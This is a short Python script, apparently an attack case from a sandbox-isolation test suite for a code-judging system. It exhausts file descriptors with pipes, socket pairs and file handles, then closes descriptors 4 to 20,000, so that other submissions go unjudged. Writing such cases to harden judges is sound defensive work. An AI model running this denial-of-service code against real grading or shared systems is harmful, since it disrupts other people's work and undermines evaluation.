# attacks: descriptors: as many as can be had, of files, pipes and sockets
# success: another submission is not judged
# %% before
import os
import socket

_kept = []
for _make in (os.pipe, socket.socketpair, lambda: os.open("/dev/null", os.O_RDONLY)):
    try:
        for _ in range(5000):
            _kept.append(_make())
    except OSError as _error:
        print(_error)
for _fd in range(4, 20_000):
    try:
        os.close(_fd)
    except OSError:
        pass
